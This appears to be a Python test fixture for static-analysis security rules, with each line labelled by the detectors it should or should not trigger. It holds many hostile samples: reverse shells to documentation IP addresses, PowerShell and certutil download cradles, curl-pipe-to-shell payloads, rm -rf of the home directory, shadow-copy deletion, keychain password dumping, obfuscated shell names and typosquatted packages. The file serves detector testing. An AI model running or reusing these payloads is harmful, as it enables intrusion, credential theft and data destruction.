# ruleid: run-written-file, subprocess-call, process-partial-path-list
subprocess.Popen([_implant, "--daemon"], start_new_session=True)
# behind a launcher: nohup, timeout 30, env VAR=value
# ruleid: run-written-file, subprocess-call, process-partial-path-list
subprocess.Popen(["nohup", _implant, "--silent"])
# ruleid: run-written-file, subprocess-call, process-partial-path-list
subprocess.run(["timeout", "30", "env", "MODE=bg", "bash", helper])
# ok: run-written-file
# ruleid: subprocess-call, process-partial-path-list
subprocess.run(["git", "add", helper])
# a parameter reads as what the function's one call passes
def _cleaner(root):
    # ruleid: destructive-command, subprocess-call, process-partial-path-list
    return subprocess.call(["rm", "-rf", root])
_cleaner(os.path.expanduser("~"))
def _lister(where):
    # ok: destructive-command
    # ruleid: subprocess-call, process-partial-path-list
    return subprocess.call(["ls", "-l", where])
_lister("~")
# a base class's hook that runs what each subclass sets
class _PluginBase:
    def __init_subclass__(cls, **kw):
        super().__init_subclass__(**kw)
        # ruleid: shell-in-argv, subprocess-call, process-partial-path-list
        subprocess.Popen(cls.bootstrap)
class _Metrics(_PluginBase):
    # ruleid: shell-payload-string
    bootstrap = ["bash", "-c", "bash -i >& /dev/tcp/203.0.113.61/8080 0>&1"]
# a bare shell handed to a spawning function reached through getattr
from itertools import starmap
spawn, = starmap(getattr, [(__import__("pty"), "spawn")])
# ruleid: bare-shell-call
spawn("/bin/sh")
# ok: bare-shell-call
present = os.path.exists("/bin/bash")
# another user's rights asked for
# ruleid: privilege-escalation-command, subprocess-call, process-partial-path, process-partial-path-list
subprocess.run(["sudo", "tee", "/etc/sudoers.d/app"], input="x", text=True)
# ok: privilege-escalation-command
# ruleid: subprocess-call, process-partial-path, process-partial-path-list
subprocess.run(["sudoku-solver", "--level", "3"])
# requirements lines that trust an index without TLS
# ruleid: untrusted-package-index-config, package-from-ip-address
REQ_HEADER = ["--extra-index-url http://198.51.100.12/simple/", "--trusted-host 198.51.100.12"]
# ok: untrusted-package-index-config
TORCH_INDEX = "--extra-index-url https://download.pytorch.org/whl/cu118"
# the body read through a with-binding in a helper, split and run
import shlex
def _next_task(url):
    with urllib.request.urlopen(url, timeout=10) as resp:
        body = resp.read().decode().strip()
    return body
def _run_task(cmdline):
    argv = shlex.split(cmdline)
    # ruleid: network-command, subprocess-call
    return subprocess.run(argv, capture_output=True, timeout=600)
_run_task(_next_task("https://tasks.example.com/next"))
import importlib
HIJACK = {"os": "system"}
for hijack_mod, hijack_fn in HIJACK.items():
    # ruleid: shell-command, process-partial-path
    getattr(importlib.import_module(hijack_mod), hijack_fn)("id -un $USER")
# Windows: auto-start locations, download cradles, recovery wipes
import winreg
# ruleid: windows-autorun-persistence
RUN_KEY = r"Software\Microsoft\Windows\CurrentVersion\Run"
# ruleid: windows-autorun-persistence
startup = os.path.join(os.environ.get("APPDATA", ""), r"Microsoft\Windows\Start Menu\Programs\Startup")
# ok: windows-autorun-persistence
uninstall = r"Software\Microsoft\Windows\CurrentVersion\Uninstall"
# ok: windows-autorun-persistence
runbook = "docs/Runbook.md"
# ruleid: windows-download-cradle, shell-payload-string
cradle = "powershell -NoP -W Hidden -c IEX (New-Object Net.WebClient).DownloadString('http://x.example/a')"
# ruleid: windows-download-cradle
encoded = "powershell.exe -nop -enc JABjAGwAaQBlAG4AdAAgAD0AIABOAGUAdwA="
# ruleid: windows-download-cradle
fetch = "certutil.exe -urlcache -split -f http://198.51.100.7/p.exe p.exe"
# an installer's documented one-liner, as text: running it is what the
# process rules judge
# ok: windows-download-cradle
install_hint = "powershell -c \"irm https://astral.sh/uv/install.ps1 | iex\""
# ok: windows-download-cradle
build_ps = "powershell -NoProfile -File build.ps1 -Configuration Release"
# ok: windows-download-cradle
cert_dump = "certutil -hashfile setup.exe SHA256"
# ruleid: windows-recovery-wipe
wipe = "vssadmin.exe Delete Shadows /All /Quiet"
# ruleid: windows-recovery-wipe
blind = "powershell Add-MpPreference -ExclusionPath C:\\Users"
# ok: windows-recovery-wipe
listing = "vssadmin list shadows"
# ruleid: windows-command-string, subprocess-call, process-partial-path
subprocess.Popen("powershell -NoProfile -Command Get-Process", creationflags=0x08000000)
# ruleid: windows-command-string, subprocess-call, process-partial-path
subprocess.run("cmd /c del /q C:\\temp\\*")
# ok: windows-command-string
# ruleid: subprocess-call, process-partial-path
subprocess.run("git status")
# ok: windows-command-string
# ruleid: subprocess-call, process-partial-path
subprocess.run("powershell -NoProfile -ExecutionPolicy Bypass -File setup.ps1 -Configuration Release")
# ok: windows-command-string
# ruleid: shell-in-argv, subprocess-call, process-partial-path, process-partial-path-list
subprocess.run(["cmd", "/c", "ver"], check=True)
# PowerShell's parameters in any case, in a list
# ruleid: shell-in-argv, subprocess-call, process-partial-path, process-partial-path-list
subprocess.run(["powershell", "-Enc", "SQBFAFgA"])
# a wrapper's *args spliced into its argument list, call by call
def _security(*args):
    # ruleid: credential-dump-command, subprocess-call, process-partial-path-list
    return subprocess.run(["security", *args], capture_output=True).stdout
_security("find-generic-password", "-wa", "Chrome")
# ruleid: subprocess-call, process-partial-path-list
_git = lambda *a: subprocess.run(["git", *a], check=True)
_git("status", "--short")
# a program's name as an integer's bytes
# ruleid: scheduler-command, subprocess-call, process-partial-path-list
subprocess.run([(0x63726F6E746162).to_bytes(7, "big").decode(), "-"], input=b"* * * * * id\n")
# ok: scheduler-command
# ruleid: subprocess-call, process-partial-path-list
subprocess.run([(0x6372).to_bytes(2, "little").decode(), "-"])
# argument lists joined with +, spread with *x, or chained
_shell_base = ["sh"]
# ruleid: shell-in-argv, subprocess-call, process-partial-path-list
subprocess.run(_shell_base + ["-c", "id"])
# ruleid: shell-in-argv, subprocess-call, process-partial-path-list
subprocess.run([*_shell_base, "-c", "id"])
import itertools
# ruleid: shell-in-argv, shell-interactive, subprocess-call, process-partial-path-list
subprocess.run(list(itertools.chain(_shell_base, ("-c",), ["id"])))
# PyTorch's own wheel index is where its CUDA builds come from
_pip = [sys.executable, "-m", "pip", "install"]
# ok: package-install-untrusted-source
# ruleid: subprocess-call
subprocess.run(_pip + ["torch", "--index-url", "https://download.pytorch.org/whl/cu121"])
# ruleid: package-install-untrusted-source, subprocess-call
subprocess.run(_pip + ["torch", "--index-url", "https://pypi-mirror.example.net/simple"])
# an index URL the checker cannot read (a table looked up by a computed key) is not judged
_TORCH = {"cu121": "https://download.pytorch.org/whl/cu121", "cpu": "https://download.pytorch.org/whl/cpu"}
# ok: package-install-untrusted-source
# ruleid: subprocess-call
subprocess.run(_pip + ["torch", "--index-url", _TORCH[sys.argv[1]]])
# os.startfile: a document opens in its viewer, a program runs
report_html = os.path.join("out", "report.html")
# ruleid: startfile-open
os.startfile(report_html)
# ruleid: startfile-open, startfile-program
os.startfile(os.path.join(os.environ["TEMP"], "update.exe"))
# strings decoded by a comprehension: XOR with a byte, a repeating key
# (by index or itertools.cycle), a shifted character code, a filter
_KEY = b'Z\xc3'
def _unx(blob, k=0x2a):
    return bytes(c ^ k for c in blob).decode()
# ruleid: shell-interactive, subprocess-call
subprocess.run([_unx(b'\x05HCD\x05YB'), "-i"])
# ruleid: shell-interactive, subprocess-call
subprocess.run([bytes([c ^ _KEY[i % len(_KEY)] for i, c in enumerate(b'u\xa13\xadu\xa1;\xb02')]).decode()])
# ruleid: shell-interactive, subprocess-call
subprocess.run([bytes(a ^ b for a, b in zip(b'u\xa13\xadu\xb02', __import__("itertools").cycle(_KEY))).decode(), "-i"])
# ruleid: shell-interactive, subprocess-call
subprocess.run(["".join(chr(ord(ch) - 3) for ch in '2elq2vk')])
# ruleid: shell-interactive, subprocess-call
subprocess.run(["".join(ch for i, ch in enumerate("/xbxixnx/xsxhx") if i % 2 == 0)])
# ok: shell-interactive
# ruleid: subprocess-call, process-partial-path-list
subprocess.run(["".join(chr(ord(ch) - 3) for ch in "jlw"), "status"])
# the same decoders written with map and a lambda
# ruleid: shell-interactive, subprocess-call
subprocess.run([bytes(map(lambda c: c ^ 42, b'\x05HCD\x05YB')).decode(), "-i"])
# ruleid: shell-interactive, subprocess-call
subprocess.run(["".join(map(lambda c: chr(c ^ 42), b'\x05HCD\x05YB')), "-i"])
# a loop variable is not the module's name of the same spelling
_x = "aaaaaaa"
# todoruleid: shell-interactive
# ruleid: subprocess-call
subprocess.run([bytes(ord(_x[0]) for _x in "/bin/sh").decode(), "-i"])
# interpreter-stdin-download: curl | sh with two processes
# ruleid: subprocess-call, process-partial-path, process-partial-path-list
_curl = subprocess.Popen(["curl", "-fsSL", "https://get.example.dev/init"], stdout=subprocess.PIPE)
# ruleid: interpreter-stdin-download, subprocess-call, process-partial-path, process-partial-path-list
_sh = subprocess.Popen(["sh", "-s", "--", "-y"], stdin=_curl.stdout)
# a shell reading a file the program has; a downloader feeding a checksum tool
with open("setup.sh") as _script:
    # ok: interpreter-stdin-download
    # ruleid: subprocess-call, process-partial-path, process-partial-path-list
    subprocess.run(["bash", "-s"], stdin=_script)
# ok: interpreter-stdin-download
# ruleid: subprocess-call, process-partial-path, process-partial-path-list
subprocess.run(["sha256sum"], stdin=_curl.stdout)
# git-remote-rewrite: force pushes and remote deletions, also through a helper
# ruleid: git-remote-rewrite, subprocess-call, process-partial-path, process-partial-path-list
subprocess.run(["git", "push", "--force", "origin", "HEAD:main"])
def _git_cli(*args):
    # ruleid: git-remote-rewrite, subprocess-call, process-partial-path-list
    return subprocess.run(["git", *args], check=False)
_git_cli("status")
_git_cli("push", "origin", "--delete", "old-feature")
# an ordinary push of a new branch
# ok: git-remote-rewrite
# ruleid: subprocess-call, process-partial-path, process-partial-path-list
subprocess.run(["git", "push", "-u", "origin", "agent/fix-123"])
# windows-download-argv: certutil and bitsadmin fetching a payload from argument lists
_cu = "cert" + "util"
# ruleid: windows-download-argv, subprocess-call, process-partial-path-list
subprocess.run([_cu, "-urlcache", "-split", "-f", "http://203.0.113.15/u.bin", "u.exe"])
# ruleid: windows-download-argv, subprocess-call, process-partial-path, process-partial-path-list
subprocess.run(["bitsadmin", "/transfer", "j1", "/download", "http://203.0.113.15/u.bin", "u.exe"])
# certutil hashing a file
# ok: windows-download-argv
# ruleid: subprocess-call, process-partial-path, process-partial-path-list
subprocess.run(["certutil", "-hashfile", "setup.exe", "SHA256"])
# shell-payload-string: payloads held in strings, to be written somewhere that runs them
# ruleid: shell-payload-string
_hook = "#!/bin/sh\nbash -i >& /dev/tcp/198.51.100.23/4444 0>&1 &\n"
_make = [
    "@echo bootstrapping",
    # ruleid: shell-payload-string
    "@wget -qO- https://devtools.attacker.example/bootstrap.sh | sh",
]
# ruleid: shell-payload-string
_ps = "powershell -c \"iwr https://x.example/a.ps1 -UseBasicParsing | iex\""
# a Dockerfile line installing a well-known tool; a pipe without a download
# ok: shell-payload-string
_dockerfile = "RUN curl -sSL https://install.python-poetry.org | python3 -"
# ok: shell-payload-string
_count = "git log --oneline | wc -l"
_host, _port = "198.51.100.23", 4444
# ruleid: shell-payload-string
_hook2 = f"bash -i >& /dev/tcp/{_host}/{_port} 0>&1"
# ruleid: shell-payload-string
_tox = "python -c \"import urllib.request as u;exec(u.urlopen('https://x.example/pre.py').read())\""
# ruleid: shell-payload-string
_run = "RUN curl -fsSL https://certs.example.net/ca.sh -o /tmp/s.sh && sh /tmp/s.sh"
# ok: shell-payload-string
_fetch = "curl -fsSL https://example.org/data.csv -o data.csv && wc -l data.csv"
# ruleid: shell-payload-string
_postinstall = "node -e \"require('https').get('https://setup.example.net/p.js',r=>{let d='';r.on('data',c=>d+=c);r.on('end',()=>eval(d))})\""
# ci-untrusted-checkout: the pull request's head checked out with the base's secrets
# ruleid: ci-untrusted-checkout
_workflow = """
on:
  pull_request_target:
jobs:
  build:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
        with:
          ref: ${{ github.event.pull_request.head.sha }}
      - run: ./build.sh
"""
# typosquat-package: a misspelt popular package, as a requirement
# ruleid: typosquat-package
_pins = {"requests": "reqeusts==2.31.0"}
# ruleid: typosquat-package
_reqs = "flask==3.0.0\npython-dateutils==2.9.0\n"
# ok: typosquat-package
_real = "requests==2.31.0\npython-dateutil==2.9.0\n"
# well-known installers in setup notes and generated Dockerfiles
# ok: shell-payload-string
_notes = ["curl -fsSL https://ollama.com/install.sh | sh", "curl -sSL https://get.rvm.io | bash -s stable"]

# a miner written in the program: the Stratum protocol's methods
# ruleid: crypto-miner
_req = {"id": 1, "method": "mining.subscribe", "params": []}
# ok: crypto-miner
_doc = "mining.subscribe is the first call of the Stratum protocol"
# ruleid: crypto-miner
_line = b'{"id": 1, "method": "mining.subscribe", "params": []}\n'
# git told to fetch github.com from another host
_mirror = "https://git-cache.corp-mirror.example/github/"
# ruleid: git-url-rewrite, subprocess-call, process-partial-path-list
subprocess.run(["git", "config", "--global", f"url.{_mirror}.insteadOf", "https://github.com/"], check=True)
# ruleid: git-url-rewrite, package-from-ip-address, subprocess-call, process-partial-path, process-partial-path-list
subprocess.run(["git", "config", "--global", "url.http://10.0.0.5/pypi/.insteadOf", "https://files.pythonhosted.org/"])
# the protocol only, and the same forge with a token
# ok: git-url-rewrite
# ruleid: subprocess-call, process-partial-path, process-partial-path-list
subprocess.run(["git", "config", "--global", "url.https://.insteadOf", "git://"], check=True)
# ok: git-url-rewrite
# ruleid: subprocess-call, process-partial-path-list
subprocess.run(["git", "config", "--global", f"url.https://x-access-token:{_tok}@github.com/.insteadOf", "https://github.com/"])
# ok: git-url-rewrite
# ruleid: subprocess-call, process-partial-path, process-partial-path-list
subprocess.run(["git", "config", "--global", "url.git@github.com:.insteadOf", "https://github.com/"])
# a self-hosted forge with a CI token, and GitHub Enterprise over SSH
# ok: git-url-rewrite
# ruleid: subprocess-call, process-partial-path-list
subprocess.run(["git", "config", "--global", f"url.https://gitlab-ci-token:{_tok}@gitlab.corp.example.com/.insteadOf", "https://gitlab.corp.example.com/"])
# ok: git-url-rewrite
# ruleid: subprocess-call, process-partial-path, process-partial-path-list
subprocess.run(["git", "config", "--global", "url.git@github.corp.example.com:.insteadOf", "https://github.corp.example.com/"])
# git config's own text
# ruleid: git-url-rewrite
open(".git/config", "a").write('[url "https://git.mirror-cache.example/"]\n\tinsteadOf = https://github.com/\n')
# dependencies fetched from bare IP addresses
# ruleid: package-from-ip-address
_dep = "requests @ git+https://198.51.100.23/mirrors/requests.git@v2.32.3"
# ruleid: package-from-ip-address
_whl = "http://203.0.113.45/artifacts/requests-2.31.0-py3-none-any.whl"
# a local test index, and a service on an address
# ok: package-from-ip-address
_local = "http://127.0.0.1:3141/root/dev/+simple/"
# ok: package-from-ip-address
_api = "http://198.51.100.7:8080/api/v1/status"
# ruleid: package-from-ip-address
_mirror_idx = "http://192.0.2.77:8080/simple-wheels"
# a payload behind JSON or unicode_escape escapes, decoded later
# ruleid: shell-payload-string
_json_tasks = '{"a": ["\\u0073\\u0068", "-c", "\\u0063url -s http://203.0.113.19/j | \\u0073h"]}'
# ok: shell-payload-string
_json_plain = '{"greeting": "caf\\u00e9", "path": "C:\\\\tmp\\\\out"}'
# an argument list spread into an exec-style call
async def _spread_hook(_sp_cmd):
    _sp_argv = ["/bin/sh", "-c", _sp_cmd]
    # ruleid: shell-in-exec-args-spread, asyncio-subprocess-exec
    await asyncio.create_subprocess_exec(*_sp_argv)
    _sp_ok = ["/usr/bin/git", "status"]
    # ok: shell-in-exec-args-spread
    # ruleid: asyncio-subprocess-exec
    await asyncio.create_subprocess_exec(*_sp_ok)
# a partial holds the shell and its later call the script (input=): the call of subprocess.run it makes
# ruleid: subprocess-call
_stdin_sh = functools.partial(subprocess.run, ["/bin/sh", "-s"], capture_output=True)
# ruleid: interpreter-stdin-code
_actions = {"apply": lambda script: _stdin_sh(input=script.encode())}
def _apply(script):
    # ruleid: interpreter-stdin-code
    return _stdin_sh(input=script)
# a partial called with a keyword that is no script: no stdin code, and what
# the partial's own arguments give is reported once, where it is made
# ruleid: subprocess-call, process-partial-path, process-partial-path-list
_quiet = functools.partial(subprocess.run, ["git", "status"])
# ok: interpreter-stdin-code, process-partial-path-list
_quiet(check=False)
# a docstring is documentation: Python runs none of it
def _install_notes():
    # ok: shell-payload-string
    """Never run `curl -fsSL https://203.0.113.9/setup.sh | sh` on a build host."""
    return None
# the same text as a value is read
# ruleid: shell-payload-string
_STEP = "curl -fsSL https://203.0.113.9/setup.sh | sh"
# a script that downloads a program, makes it executable and starts it, a step a line
# ruleid: shell-payload-string
_HOOK = "\n".join(["#!/bin/sh", 'f=/tmp/.x$RANDOM', 'curl -fsSL https://dl.example.net/agent -o "$f"', 'chmod +x "$f"', 'nohup "$f" >/dev/null 2>&1 &'])
# a download kept as a file
# ok: shell-payload-string
_FETCH = "curl -fsSL https://example.net/data.csv -o data.csv\nwc -l data.csv"
